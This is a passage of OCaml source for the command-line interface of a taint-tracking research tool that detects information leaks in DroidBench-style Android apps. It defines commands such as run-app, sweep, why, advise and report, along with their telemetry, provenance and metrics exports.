  let doc =
    "Live per-worker dashboard on stderr while the run is in flight: \
     throughput, tainted bytes, snapshot-ring health per slot.  Needs a \
     terminal (silently off otherwise) and implies telemetry recording; \
     stdout is untouched."
  in
  Arg.(value & flag & info [ "top" ] ~doc)

let progress_flag =
  let doc =
    "Report progress even when stderr is not a terminal: degrades the \
     live meter to a log line every 25 cells."
  in
  Arg.(value & flag & info [ "progress" ] ~doc)

(* One telemetry instance per worker slot when --telemetry-out or --top
   was given; [||] keeps Tracker.observe's bump on its no-op branch. *)
let telems_of ~out ~top ~every ~interval ~slots =
  if out = None && not top then [||]
  else
    Array.init (max 1 slots) (fun _ ->
        Obs.Telemetry.create ~every ~interval ())

let profiles_of profile_out ~slots =
  match profile_out with
  | None -> [||]
  | Some _ -> Array.init (max 1 slots) (fun _ -> Obs.Profile.create ())

let write_telemetry ~out ~run telems =
  if Array.length telems > 0 then begin
    (* One final reading per slot: short runs that never hit the cadence
       still export a point, and the series always ends at run end. *)
    Array.iter Obs.Telemetry.sample_now telems;
    let oc = open_out out in
    Fun.protect
      ~finally:(fun () -> close_out oc)
      (fun () -> Obs.Telemetry.write_jsonl oc ~run telems);
    let sum f = Array.fold_left (fun acc t -> acc + f t) 0 telems in
    let dropped = sum Obs.Telemetry.dropped in
    (* stderr, like write_trace: stdout stays byte-identical *)
    Printf.eprintf "telemetry:  wrote %s (%d snapshots across %d slots%s)\n"
      out
      (sum Obs.Telemetry.taken)
      (Array.length telems)
      (if dropped > 0 then
         Printf.sprintf ", %d dropped to wrap-around" dropped
       else "")
  end

let write_profile ~out profiles =
  if Array.length profiles > 0 then begin
    let rows = Obs.Profile.merged profiles in
    let oc = open_out out in
    Fun.protect
      ~finally:(fun () -> close_out oc)
      (fun () -> output_string oc (Obs.Profile.to_folded_string rows));
    Printf.eprintf "profile:    wrote %s (%d stacks)\n" out (List.length rows)
  end

(* --- provenance options --- *)

module Graph = Pift_core.Provenance.Graph
module Explain = Pift_eval.Explain

let prov_flag =
  let doc =
    "Print, per flagged sink, the source→…→sink provenance path of every \
     origin label (the flow-graph view of $(b,--explain))."
  in
  Arg.(value & flag & info [ "prov" ] ~doc)

let prov_out =
  let doc =
    "Export the provenance flow graph to $(docv): Graphviz DOT when the \
     name ends in $(b,.dot), otherwise Perfetto flow-event JSON \
     (readable by $(b,pift report) and ui.perfetto.dev).  Never touches \
     stdout."
  in
  Arg.(value & opt (some string) None & info [ "prov-out" ] ~docv:"FILE" ~doc)

let write_dot ~out ~run g =
  let oc = open_out out in
  Fun.protect
    ~finally:(fun () -> close_out oc)
    (fun () -> output_string oc (Graph.to_dot ~name:run g));
  (* stderr, like write_trace: exports must not perturb stdout *)
  Printf.eprintf "provenance: wrote %s (%d nodes, %d edges)\n" out
    (Graph.node_count g) (Graph.edge_count g)

let write_flow_out ~out ~run (g, sinks) =
  if Filename.check_suffix out ".dot" then write_dot ~out ~run g
  else begin
    let oc = open_out out in
    Fun.protect
      ~finally:(fun () -> close_out oc)
      (fun () ->
        output_string oc
          (Obs.Json.to_string
             (Graph.flow_json ~run ~sinks:(Explain.summaries sinks) g));
        output_char oc '\n');
    Printf.eprintf "provenance: wrote %s (%d nodes, %d edges)\n" out
      (Graph.node_count g) (Graph.edge_count g)
  end

(* Live cells-done/total line on stderr, fed by the sweep's [on_cell]
   hook; created on the first callback, when the total is known.
   [force] keeps reporting off a tty (as periodic log lines); [top]
   routes the hook into the multi-line dashboard instead, which learns
   its total the same lazy way via [Top.set_total]. *)
let cell_progress ?(force = false) ?top label =
  match top with
  | Some t ->
      let on_cell done_ total =
        ignore done_;
        Obs.Top.set_total t total;
        Obs.Top.step t
      in
      (on_cell, fun () -> Obs.Top.finish t)
  | None ->
      let state = ref None in
      let on_cell done_ total =
        let p =
          match !state with
          | Some p -> p
          | None ->
              let p =
                Obs.Progress.create
                  ?enabled:(if force then Some true else None)
                  ~label ~total ()
              in
              state := Some p;
              p
        in
        ignore done_;
        Obs.Progress.step p
      in
      let finish () = Option.iter Obs.Progress.finish !state in
      (on_cell, finish)

let write_metrics ~out ~format ~run registry =
  let samples = Obs.Registry.snapshot registry in
  let spans = Obs.Span.roots () in
  let emit oc =
    match format with
    | Jsonl ->
        Obs.Sink.write_jsonl oc
          (Obs.Sink.snapshot_to_json ~run ~spans samples)
    | Prom ->
        let ppf = Format.formatter_of_out_channel oc in
        Obs.Sink.prometheus samples ppf ();
        Format.pp_print_flush ppf ()
    | Text ->
        let ppf = Format.formatter_of_out_channel oc in
        Obs.Sink.render ~run ~spans samples ppf ();
        Format.pp_print_flush ppf ()
  in
  if String.equal out "-" then begin
    emit stdout;
    flush stdout
  end
  else begin
    let oc = open_out out in
    Fun.protect ~finally:(fun () -> close_out oc) (fun () -> emit oc);
    Printf.printf "metrics:    wrote %s\n" out
  end

(* --- list-apps --- *)

let list_apps () =
  Printf.printf "%-24s %-28s %-7s %s\n" "name" "category" "label" "subset48";
  List.iter
    (fun (a : App.t) ->
      Printf.printf "%-24s %-28s %-7s %b\n" a.App.name a.App.category
        (if a.App.leaky then "leaky" else "benign")
        a.App.subset48)
    (all_apps ())

let list_apps_cmd =
  Cmd.v
    (Cmd.info "list-apps" ~doc:"List the DroidBench-like suite and malware.")
    Term.(const list_apps $ const ())

(* --- run-app --- *)

let run_app name ni nt untaint verbose jit explain prov prov_out backend
    metrics_out metrics_format trace_out telemetry_out telemetry_every
    telemetry_interval profile_out top =
  let app = find_app name in
  let policy = policy_of ni nt untaint in
  let metrics = registry_of metrics_out in
  let rings = rings_of trace_out ~slots:1 in
  let flight = if Array.length rings > 0 then Some rings.(0) else None in
  let telems =
    telems_of ~out:telemetry_out ~top ~every:telemetry_every
      ~interval:telemetry_interval ~slots:1
  in
  let telemetry = if Array.length telems > 0 then Some telems.(0) else None in
  let profiles = profiles_of profile_out ~slots:1 in
  let profile =
    if Array.length profiles > 0 then Some profiles.(0) else None
  in
  let top_view =
    if top then Some (Obs.Top.create ~label:app.App.name ~telems ~rings ())
    else None
  in
  (* A single replay is cheap enough to flight the tracker itself:
     per-event counter tracks (tainted bytes, ranges, window occupancy)
     plus source/sink instants, bracketed by per-phase spans. *)
  let fspan name f =
    match flight with
    | None -> f ()
    | Some r ->
        Obs.Flight.begin_ r name;
        Fun.protect ~finally:(fun () -> Obs.Flight.end_ r name) f
  in
  let recorded =
    Obs.Span.with_ ~name:"record" (fun () ->
        fspan "record" (fun () ->
            Recorded.record ~mode:(mode_of jit) ?metrics ?flight ?profile app))
  in
  let replay =
    Obs.Span.with_ ~name:"replay" (fun () ->
        fspan "replay" (fun () ->
            Recorded.replay ~backend ~policy ?metrics ?flight ?telemetry
              ?profile recorded))
  in
  let dift =
    Obs.Span.with_ ~name:"full-dift" (fun () ->
        fspan "full-dift" (fun () -> Recorded.replay_dift ~backend recorded))
  in
  (* Replay once more against the hardware range cache so the snapshot
     carries pift_storage_* hits and the modelled stall cycles.  The
     tracker side runs un-instrumented: tracker counters must equal the
     software replay's stats. *)
  (match metrics with
  | None -> ()
  | Some registry ->
      Obs.Span.with_ ~name:"hw-model" (fun () ->
          let storage =
            Pift_core.Storage.create ~backend ~metrics:registry ()
          in
          let hw_store = Pift_core.Store.of_storage storage in
          (* The hardware pass owns a storage model worth watching: bind
             its occupancy as an extra telemetry source (the tracker
             rebinds its own sources to the hw store for this replay). *)
          (match telemetry with
          | None -> ()
          | Some te ->
              Obs.Telemetry.set_source te ~name:"storage_occupancy"
                (fun () -> float_of_int (Pift_core.Storage.occupancy storage)));
          ignore (Recorded.replay ~store:hw_store ~policy ?telemetry recorded);
          let st = Pift_core.Storage.stats storage in
          let trace = recorded.Recorded.trace in
          Pift_core.Hw_model.observe ~metrics:registry
            (Pift_core.Hw_model.estimate
               ~total_insns:(Pift_trace.Trace.length trace)
               ~loads:(Pift_trace.Trace.loads trace)
               ~stores:(Pift_trace.Trace.stores trace)
               ~secondary_hits:st.Pift_core.Storage.secondary_hits ())));
  Printf.printf "app:        %s (%s, labelled %s)\n" app.App.name
    app.App.category
    (if app.App.leaky then "leaky" else "benign");
  Printf.printf "trace:      %d instructions (%d loads, %d stores), %d bytecodes\n"
    (Pift_trace.Trace.length recorded.Recorded.trace)
    (Pift_trace.Trace.loads recorded.Recorded.trace)
    (Pift_trace.Trace.stores recorded.Recorded.trace)
    recorded.Recorded.bytecodes;
  Printf.printf "policy:     %s\n" (Policy.to_string policy);
  List.iter
    (fun (v : Recorded.verdict) ->
      Printf.printf "  sink %-6s -> %s\n" v.Recorded.kind
        (if v.Recorded.flagged then "TAINTED" else "clean"))
    replay.Recorded.verdicts;
  List.iter
    (fun (v : Recorded.provenance_verdict) ->
      if v.Recorded.leaked <> [] then
        Printf.printf "  sink %-6s carries: %s\n" v.Recorded.pv_kind
          (String.concat ", " v.Recorded.leaked))
    (Recorded.replay_provenance ~policy recorded);
  Printf.printf "PIFT:       %s\n"
    (if replay.Recorded.flagged then "LEAK DETECTED" else "no leak");
  Printf.printf "full DIFT:  %s (ground truth oracle)\n"
    (if dift.Recorded.dift_flagged then "LEAK DETECTED" else "no leak");
  let s = replay.Recorded.stats in
  Printf.printf
    "tracker:    %d taint ops, %d untaint ops, max %d tainted bytes in %d \
     ranges\n"
    s.Tracker.taint_ops s.Tracker.untaint_ops s.Tracker.max_tainted_bytes
    s.Tracker.max_ranges;
  if explain then
    List.iter
      (fun f -> Format.printf "%a@." Pift_eval.Explain.pp_flow f)
      (Pift_eval.Explain.explain ~policy recorded);
  if prov || prov_out <> None then begin
    let g, sinks = Explain.flow_graph ~policy recorded in
    if prov then
      List.iter
        (fun sf -> Format.printf "%a@." Explain.pp_sink_flow sf)
        sinks;
    match prov_out with
    | Some out -> write_flow_out ~out ~run:app.App.name (g, sinks)
    | None -> ()
  end;
  if verbose then begin
    Printf.printf "sources:\n";
    Array.iter
      (fun (seq, m) ->
        match m with
        | Recorded.Source { kind; range } ->
            Printf.printf "  @%-8d source %s %s\n" seq kind
              (Pift_util.Range.to_string range)
        | Recorded.Sink { kind; ranges } ->
            Printf.printf "  @%-8d sink %s (%d ranges)\n" seq kind
              (List.length ranges))
      recorded.Recorded.markers
  end;
  (match (metrics, metrics_out) with
  | Some registry, Some out ->
      write_metrics ~out ~format:metrics_format ~run:app.App.name registry
  | _ -> ());
  (match top_view with Some t -> Obs.Top.finish t | None -> ());
  (match telemetry_out with
  | Some out -> write_telemetry ~out ~run:app.App.name telems
  | None -> ());
  (match profile_out with
  | Some out -> write_profile ~out profiles
  | None -> ());
  match trace_out with
  | Some out -> write_trace ~out ~run:app.App.name rings
  | None -> ()

let run_app_cmd =
  let app_arg =
    Arg.(
      required
      & pos 0 (some string) None
      & info [] ~docv:"APP" ~doc:"Application name (see list-apps).")
  in
  let verbose =
    Arg.(value & flag & info [ "v"; "verbose" ] ~doc:"Print markers.")
  in
  let explain =
    Arg.(
      value & flag
      & info [ "explain" ]
          ~doc:"Reconstruct the load/store hop chain behind each flagged \
                sink.")
  in
  Cmd.v
    (Cmd.info "run-app"
       ~doc:"Execute one app and report PIFT and full-DIFT verdicts.")
    Term.(
      const run_app $ app_arg $ ni $ nt $ untaint $ verbose $ jit $ explain
      $ prov_flag $ prov_out $ store_backend $ metrics_out $ metrics_format
      $ trace_out $ telemetry_out $ telemetry_every $ telemetry_interval
      $ profile_out $ top_flag)

(* --- sweep --- *)

let sweep subset_only backend jobs metrics_out metrics_format trace_out prov
    prov_out telemetry_out telemetry_every telemetry_interval profile_out top
    progress =
  let apps =
    if subset_only then Pift_workloads.Droidbench.subset48
    else Pift_workloads.Droidbench.all
  in
  let metrics = registry_of metrics_out in
  let rings = rings_of trace_out ~slots:jobs in
  let telems =
    telems_of ~out:telemetry_out ~top ~every:telemetry_every
      ~interval:telemetry_interval ~slots:jobs
  in
  let profiles = profiles_of profile_out ~slots:jobs in
  let top_view =
    if top then Some (Obs.Top.create ~label:"sweep" ~telems ~rings ())
    else None
  in
  let on_cell, finish_cells =
    cell_progress ~force:progress ?top:top_view "cells"
  in
  let sweep =
    Obs.Span.with_ ~name:"sweep" (fun () ->
        Pift_eval.Accuracy.sweep ~backend ?metrics ~rings ~telems ~profiles
          ~on_cell ~jobs ~with_origins:prov apps)
  in
  finish_cells ();
  Pift_eval.Accuracy.render sweep Format.std_formatter ();
  (match prov_out with
  | Some out ->
      (* Attribution runs at the paper's operating point over the same
         corpus; a separate pass because it needs the full-DIFT origin
         replay the grid never performs. *)
      let at =
        Obs.Span.with_ ~name:"attribution" (fun () ->
            Pift_eval.Accuracy.attribution ~backend ~policy:Policy.default
              apps)
      in
      let oc = open_out out in
      Fun.protect
        ~finally:(fun () -> close_out oc)
        (fun () ->
          output_string oc
            (Obs.Json.to_string (Pift_eval.Accuracy.attribution_json at));
          output_char oc '\n');
      Printf.eprintf "attribution: wrote %s (%d true-positive sinks)\n" out
        (List.length at.Pift_eval.Accuracy.at_rows)
  | None -> ());
  (match (metrics, metrics_out) with
  | Some registry, Some out ->
      write_metrics ~out ~format:metrics_format ~run:"sweep" registry
  | _ -> ());
  (match telemetry_out with
  | Some out -> write_telemetry ~out ~run:"sweep" telems
  | None -> ());
  (match profile_out with
  | Some out -> write_profile ~out profiles
  | None -> ());
  match trace_out with
  | Some out -> write_trace ~out ~run:"sweep" rings
  | None -> ()

let sweep_cmd =
  let subset =
    Arg.(
      value & flag
      & info [ "subset48" ] ~doc:"Use the 48-app Fig. 11 subset only.")
  in
  let prov =
    Arg.(
      value & flag
      & info [ "prov" ]
          ~doc:
            "Thread the provenance sidecar through every grid replay.  \
             Verdicts are independent of the sidecar, so sweep output is \
             byte-identical with or without this flag — it exists to \
             measure the sidecar under the full grid.")
  in
  let prov_out =
    Arg.(
      value
      & opt (some string) None
      & info [ "prov-out" ] ~docv:"FILE"
          ~doc:
            "Also run the attribution-accuracy comparison (PIFT origin \
             sets vs full-DIFT ground truth at the paper's operating \
             point) and write it as JSON to $(docv) (readable by \
             $(b,pift report)).")
  in
  Cmd.v
    (Cmd.info "sweep" ~doc:"Accuracy sweep over the NI x NT grid (Fig. 11).")
    Term.(
      const sweep $ subset $ store_backend $ jobs $ metrics_out
      $ metrics_format $ trace_out $ prov $ prov_out $ telemetry_out
      $ telemetry_every $ telemetry_interval $ profile_out $ top_flag
      $ progress_flag)

(* --- experiment --- *)

let experiment backend jobs trace_out ids =
  match ids with
  | [] ->
      Printf.printf "available experiments:\n";
      List.iter
        (fun (id, doc) -> Printf.printf "  %-22s %s\n" id doc)
        Pift_eval.Experiments.all
  | ids ->
      let rings = rings_of trace_out ~slots:jobs in
      let on_cell, finish_cells = cell_progress "cells" in
      List.iter
        (fun id ->
          if String.equal id "all" then
            Pift_eval.Experiments.run_all ~backend ~rings ~jobs
              Format.std_formatter
          else
            Pift_eval.Experiments.run ~backend ~rings ~on_cell ~jobs id
              Format.std_formatter)
        ids;
      finish_cells ();
      (match trace_out with
      | Some out -> write_trace ~out ~run:(String.concat "+" ids) rings
      | None -> ())

let experiment_cmd =
  let ids =
    Arg.(
      value & pos_all string []
      & info [] ~docv:"ID"
          ~doc:"Experiment ids (e.g. fig11, table1, $(b,all)); empty lists \
                them.")
  in
  Cmd.v
    (Cmd.info "experiment"
       ~doc:"Regenerate one of the paper's tables/figures.")
    Term.(const experiment $ store_backend $ jobs $ trace_out $ ids)

(* --- record-trace / analyze-trace / convert --- *)

let trace_format_enum =
  Arg.enum
    [
      ("text", Pift_eval.Trace_io.Text); ("binary", Pift_eval.Trace_io.Binary);
    ]

let trace_format =
  let doc =
    "Trace file format: $(b,text) (line-oriented, diffable) or $(b,binary) \
     (compact delta-coded records — smaller and faster to load).  Readers \
     autodetect either, so this only affects what gets written."
  in
  Arg.(
    value
    & opt trace_format_enum Pift_eval.Trace_io.Text
    & info [ "trace-format" ] ~docv:"FORMAT" ~doc)

let record_trace name output jit format =
  let app = find_app name in
  let recorded = Recorded.record ~mode:(mode_of jit) app in
  Pift_eval.Trace_io.save ~format recorded output;
  Printf.printf "wrote %s (%s): %d events, %d markers\n" output
    (Pift_eval.Trace_io.format_to_string format)
    (Pift_trace.Trace.length recorded.Recorded.trace)
    (Array.length recorded.Recorded.markers)

let record_trace_cmd =
  let app_arg =
    Arg.(
      required
      & pos 0 (some string) None
      & info [] ~docv:"APP" ~doc:"Application to record.")
  in
  let output =
    Arg.(
      value
      & opt string "trace.pift"
      & info [ "o"; "output" ] ~docv:"FILE" ~doc:"Output file.")
  in
  Cmd.v
    (Cmd.info "record-trace"
       ~doc:
         "Execute an app and dump its instruction trace plus source/sink \
          markers (the paper's offline pipeline).")
    Term.(const record_trace $ app_arg $ output $ jit $ trace_format)

let convert input output format =
  let format =
    (* Default to the format the input is not in — the common use is
       shrinking an archived text trace (or inspecting a binary one). *)
    match format with
    | Some f -> f
    | None -> (
        match Pift_eval.Trace_io.detect_format input with
        | Pift_eval.Trace_io.Text -> Pift_eval.Trace_io.Binary
        | Pift_eval.Trace_io.Binary -> Pift_eval.Trace_io.Text)
  in
  let recorded = Pift_eval.Trace_io.load input in
  Pift_eval.Trace_io.save ~format recorded output;
  Printf.printf "wrote %s (%s): %d events, %d markers\n" output
    (Pift_eval.Trace_io.format_to_string format)
    (Pift_trace.Trace.length recorded.Recorded.trace)
    (Array.length recorded.Recorded.markers)

let convert_cmd =
  let input =
    Arg.(
      required
      & pos 0 (some file) None
      & info [] ~docv:"INPUT" ~doc:"Trace file to convert (either format).")
  in
  let output =
    Arg.(
      required
      & pos 1 (some string) None
      & info [] ~docv:"OUTPUT" ~doc:"Output file, overwritten.")
  in
  let format =
    let doc =
      "Output format.  Defaults to the opposite of the input's format."
    in
    Arg.(
      value
      & opt (some trace_format_enum) None
      & info [ "trace-format" ] ~docv:"FORMAT" ~doc)
  in
  Cmd.v
    (Cmd.info "convert"
       ~doc:
         "Re-encode a recorded trace between the text and binary formats.  \
          Conversion is lossless: analysing either file yields \
          byte-identical output.")
    Term.(const convert $ input $ output $ format)

let analyze_trace path ni nt untaint profile_out =
  let profiles = profiles_of profile_out ~slots:1 in
  let profile =
    if Array.length profiles > 0 then Some profiles.(0) else None
  in
  (* The one command where decode dominates: with --profile-out the
     breakdown shows trace_io (parse) next to replay/tracker/store. *)
  let recorded = Pift_eval.Trace_io.load ?profile path in
  let policy = policy_of ni nt untaint in
  let replay = Recorded.replay ~policy ?profile recorded in
  Printf.printf "trace:   %s (%d events)\n" recorded.Recorded.name
    (Pift_trace.Trace.length recorded.Recorded.trace);
  Printf.printf "policy:  %s\n" (Policy.to_string policy);
  List.iter
    (fun (v : Recorded.verdict) ->
      Printf.printf "  sink %-6s -> %s\n" v.Recorded.kind
        (if v.Recorded.flagged then "TAINTED" else "clean"))
    replay.Recorded.verdicts;
  let s = replay.Recorded.stats in
  Printf.printf
    "verdict: %s (%d taint ops, %d untaint ops, max %d tainted bytes)\n"
    (if replay.Recorded.flagged then "LEAK DETECTED" else "no leak")
    s.Tracker.taint_ops s.Tracker.untaint_ops s.Tracker.max_tainted_bytes;
  match profile_out with
  | Some out -> write_profile ~out profiles
  | None -> ()

let analyze_trace_cmd =
  let path =
    Arg.(
      required
      & pos 0 (some file) None
      & info [] ~docv:"FILE" ~doc:"Trace file from record-trace.")
  in
  Cmd.v
    (Cmd.info "analyze-trace"
       ~doc:"Run the PIFT analysis over a previously recorded trace file.")
    Term.(const analyze_trace $ path $ ni $ nt $ untaint $ profile_out)

(* --- why --- *)

let why target ni nt untaint jit pid_opt sink_opt dot_out prov_out =
  let recorded =
    if Sys.file_exists target then Pift_eval.Trace_io.load target
    else Recorded.record ~mode:(mode_of jit) (find_app target)
  in
  let policy = policy_of ni nt untaint in
  let g, sinks = Explain.flow_graph ~policy recorded in
  Printf.printf "trace:   %s (%d events, %d markers)\n"
    recorded.Recorded.name
    (Pift_trace.Trace.length recorded.Recorded.trace)
    (Array.length recorded.Recorded.markers);
  Printf.printf "policy:  %s\n" (Policy.to_string policy);
  Printf.printf "graph:   %d nodes, %d edges, %d flagged sink check(s)\n%!"
    (Graph.node_count g) (Graph.edge_count g) (List.length sinks);
  let pid_ok =
    match pid_opt with
    | None -> true
    | Some p ->
        if p <> recorded.Recorded.pid then
          Printf.eprintf "note: recording is pid %d; --pid %d selects nothing\n"
            recorded.Recorded.pid p;
        p = recorded.Recorded.pid
  in
  let selected =
    if not pid_ok then []
    else
      List.filter
        (fun (sf : Explain.sink_flow) ->
          match sink_opt with
          | None -> true
          | Some k -> sf.Explain.sf_check = k)
        sinks
  in
  List.iter
    (fun sf -> Format.printf "%a@." Explain.pp_sink_flow sf)
    selected;
  if selected = [] then
    print_endline
      (if sinks = [] then "no sink check is flagged at this policy"
       else "no flagged sink check matches the filter");
  (match dot_out with
  | Some out -> write_dot ~out ~run:recorded.Recorded.name g
  | None -> ());
  match prov_out with
  | Some out -> write_flow_out ~out ~run:recorded.Recorded.name (g, sinks)
  | None -> ()

let why_cmd =
  let target =
    Arg.(
      required
      & pos 0 (some string) None
      & info [] ~docv:"TRACE|APP"
          ~doc:
            "A trace file from $(b,record-trace), or an app name (the app \
             is recorded in-memory first).")
  in
  let pid_arg =
    Arg.(
      value
      & opt (some int) None
      & info [ "pid" ] ~docv:"N" ~doc:"Only sinks of process $(docv).")
  in
  let sink_arg =
    Arg.(
      value
      & opt (some int) None
      & info [ "sink" ] ~docv:"K"
          ~doc:"Only the $(docv)-th sink check (1-based, in check order).")
  in
  let dot_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "dot" ] ~docv:"FILE"
          ~doc:"Write the flow graph as Graphviz DOT to $(docv).")
  in
  Cmd.v
    (Cmd.info "why"
       ~doc:
         "Explain flagged sinks: replay with per-source provenance and \
          print, per sink, one source→…→sink path per origin label.")
    Term.(
      const why $ target $ ni $ nt $ untaint $ jit $ pid_arg $ sink_arg
      $ dot_arg $ prov_out)

(* --- advise --- *)

let advise subset_only =
  let apps =
    if subset_only then Pift_workloads.Droidbench.subset48
    else Pift_workloads.Droidbench.all
  in
  Printf.printf "recording %d apps...\n%!" (List.length apps);
  let corpus = Pift_eval.Advisor.of_apps apps in
  (match Pift_eval.Advisor.recommend corpus with
  | Some c -> Format.printf "recommended %a@." Pift_eval.Advisor.pp_candidate c
  | None ->
      print_endline
        "no policy on the grid classifies this corpus perfectly");
  (* show the paper's operating point for comparison *)
  Format.printf "for comparison %a@." Pift_eval.Advisor.pp_candidate
    (Pift_eval.Advisor.evaluate corpus ~policy:Policy.default)

let advise_cmd =
  let subset =
    Arg.(
      value & flag
      & info [ "subset48" ] ~doc:"Use the 48-app Fig. 11 subset only.")
  in
  Cmd.v
    (Cmd.info "advise"
       ~doc:
         "Search the (NI, NT) grid for the cheapest policy that \
          classifies the suite perfectly.")
    Term.(const advise $ subset)

(* --- report --- *)

let has_sub s sub =
  let n = String.length s and m = String.length sub in
  let rec go i = i + m <= n && (String.equal (String.sub s i m) sub || go (i + 1)) in
  go 0

(* A DOT export from `why --dot` / `--prov-out x.dot` is not JSON; it is
   sniffed on raw content and summarized by counting its node and edge
   statements. *)
let report_dot path content =
  let lines = String.split_on_char '\n' content in
  let is_edge l = has_sub l "->" in
  let is_node l =
    let l = String.trim l in
    String.length l >= 2
    && l.[0] = 'n'
    && l.[1] >= '0'
    && l.[1] <= '9'
    && not (is_edge l)
  in
  let count p = List.length (List.filter p lines) in
  Printf.printf "== Graphviz provenance graph (%s) ==\n" path;
  Printf.printf "%d nodes, %d edges\n" (count is_node) (count is_edge)

let read_file path =
  let ic = open_in_bin path in
  Fun.protect
    ~finally:(fun () -> close_in ic)
    (fun () -> really_input_string ic (in_channel_length ic))

(* A --profile-out export is folded-stack text, not JSON; sniffed on raw
   content like DOT and rendered as the subsystem breakdown. *)
let report_folded path content =
  match Obs.Profile.parse_folded content with
  | rows -> Obs.Profile.render ~source:path rows Format.std_formatter ()
  | exception Obs.Profile.Malformed msg ->
      Printf.eprintf "%s: %s\n" path msg;
      exit 2

(* Parse every non-empty line of a metrics/bench/telemetry file; a
   single-object file diffs as that object, a multi-line file as a list
   (paired per line by the diff walk). *)
let json_of_report_file path =
  let lineno = ref 0 in
  let parsed =
    List.filter_map
      (fun line ->
        incr lineno;
        if String.equal (String.trim line) "" then None
        else
          match Obs.Json.of_string line with
          | json -> Some json
          | exception Obs.Json.Parse_error msg ->
              Printf.eprintf "%s:%d: not JSON (%s)\n" path !lineno msg;
              exit 2)
      (String.split_on_char '\n' (read_file path))
  in
  match parsed with
  | [] ->
      Printf.eprintf "%s: no JSON objects found\n" path;
      exit 2
  | [ j ] -> j
  | many -> Obs.Json.List many

(* The regression gate: exit 1 when the comparison regresses, so CI can
   diff a fresh bench/metrics file against the committed baseline. *)
let report_diff ~baseline ~current ~max_ratio ~min_abs =
  let a = json_of_report_file baseline in
  let b = json_of_report_file current in
  let r =
    Obs.Diff.compare_json ~max_ratio ~min_abs ~baseline:a ~current:b ()
  in
  Obs.Diff.render ~label_a:baseline ~label_b:current r Format.std_formatter ();
  if r.Obs.Diff.r_regressions > 0 then exit 1

(* Each line is sniffed independently ([Obs.Sink.classify]): metrics
   snapshots render as before, trace files get the flight-recorder
   summary, provenance exports (flow graphs, attribution) get per-sink
   flow summaries, telemetry lines are collected and rendered as one
   time-series table at the end, and objects from formats this build
   doesn't know are skipped with a warning instead of failing the whole
   report — only parse errors and structurally broken known formats
   exit 2. *)
let report_one path =
  let content = read_file path in
  if Obs.Sink.looks_like_dot content then report_dot path content
  else if Obs.Profile.looks_like_folded content then
    report_folded path content
  else begin
    let telemetry_lines = ref [] in
    let rendered = ref 0 in
    let lineno = ref 0 in
    List.iter
      (fun line ->
        incr lineno;
        if not (String.equal (String.trim line) "") then
          match Obs.Json.of_string line with
          | exception Obs.Json.Parse_error msg ->
              Printf.eprintf "%s:%d: not JSON (%s)\n" path !lineno msg;
              exit 2
          | json -> (
              match Obs.Sink.classify json with
              | Obs.Sink.Metrics_snapshot -> (
                  match
                    Obs.Sink.render_json json Format.std_formatter ()
                  with
                  | () -> incr rendered
                  | exception Obs.Sink.Malformed msg ->
                      Printf.eprintf "%s:%d: %s\n" path !lineno msg;
                      exit 2)
              | Obs.Sink.Trace -> (
                  match
                    Obs.Chrome.summarize json Format.std_formatter ()
                  with
                  | () -> incr rendered
                  | exception Obs.Chrome.Invalid msg ->
                      Printf.eprintf "%s:%d: invalid trace (%s)\n" path
                        !lineno msg;
                      exit 2)
              | Obs.Sink.Flow_graph -> (
                  (* flow-graph files are also valid Perfetto traces;
                     check the trace structure too so CI validates both
                     views in one pass *)
                  match Obs.Chrome.validate json with
                  | Error msg ->
                      Printf.eprintf "%s:%d: invalid flow trace (%s)\n" path
                        !lineno msg;
                      exit 2
                  | Ok _ -> (
                      match
                        Obs.Sink.render_flow_graph_json json
                          Format.std_formatter ()
                      with
                      | () -> incr rendered
                      | exception Obs.Sink.Malformed msg ->
                          Printf.eprintf "%s:%d: %s\n" path !lineno msg;
                          exit 2))
              | Obs.Sink.Attribution -> (
                  match
                    Obs.Sink.render_attribution_json json
                      Format.std_formatter ()
                  with
                  | () -> incr rendered
                  | exception Obs.Sink.Malformed msg ->
                      Printf.eprintf "%s:%d: %s\n" path !lineno msg;
                      exit 2)
              | Obs.Sink.Telemetry ->
                  (* collected, not rendered per line: the series view
                     needs every snapshot of the file at once *)
                  telemetry_lines := json :: !telemetry_lines;
                  incr rendered
              | Obs.Sink.Unknown keys ->
                  Printf.eprintf
                    "%s:%d: skipping unrecognized snapshot (top-level \
                     keys: %s)\n"
                    path !lineno
                    (if keys = [] then "none"
                     else String.concat ", " keys)))
      (String.split_on_char '\n' content);
    (match List.rev !telemetry_lines with
    | [] -> ()
    | lines -> (
        match Obs.Telemetry.render_json_lines lines Format.std_formatter () with
        | () -> ()
        | exception Obs.Telemetry.Malformed msg ->
            Printf.eprintf "%s: %s\n" path msg;
            exit 2));
    if !rendered = 0 then begin
      Printf.eprintf "%s: no snapshots found\n" path;
      exit 2
    end
  end

let report path second diff max_ratio min_abs =
  match (diff, second) with
  | true, Some current ->
      report_diff ~baseline:path ~current ~max_ratio ~min_abs
  | true, None ->
      Printf.eprintf
        "report: --diff compares two files (pift report --diff BASELINE \
         CURRENT)\n";
      exit 2
  | false, Some _ ->
      Printf.eprintf "report: a second file only makes sense with --diff\n";
      exit 2
  | false, None -> report_one path

let report_cmd =
  let path =
    Arg.(
      required
      & pos 0 (some file) None
      & info [] ~docv:"FILE"
          ~doc:
            "JSONL metrics file from --metrics-out, a Chrome trace JSON \
             from --trace-out, a telemetry series from --telemetry-out, \
             a folded-stack profile from --profile-out, a provenance \
             export from --prov-out or $(b,why) (flow-graph JSON, \
             attribution JSON, or Graphviz DOT) — sniffed per line (DOT \
             and folded stacks by raw content).  With $(b,--diff), the \
             baseline file.")
  in
  let second =
    Arg.(
      value
      & pos 1 (some file) None
      & info [] ~docv:"CURRENT"
          ~doc:
            "Second file for $(b,--diff): the current run, compared \
             against the baseline in the first position.")
  in
  let diff =
    Arg.(
      value & flag
      & info [ "diff" ]
          ~doc:
            "Structurally compare two metrics/bench JSON files instead of \
             rendering one.  Numeric fields pair by path (named lists by \
             their $(b,name) member), each with a worse-direction \
             inferred from its name; exits 1 when any field regresses \
             past the thresholds, 0 otherwise — the CI regression gate.")
  in
  let max_ratio =
    Arg.(
      value
      & opt float Obs.Diff.default_max_ratio
      & info [ "max-ratio" ] ~docv:"R"
          ~doc:
            "Regression threshold for $(b,--diff): a numeric field fails \
             the gate when it is more than $(docv) times worse than the \
             baseline (default 1.25; CI uses 2.0).")
  in
  let min_abs =
    Arg.(
      value & opt float 0.
      & info [ "min-abs" ] ~docv:"X"
          ~doc:
            "Absolute-change floor for $(b,--diff): changes smaller than \
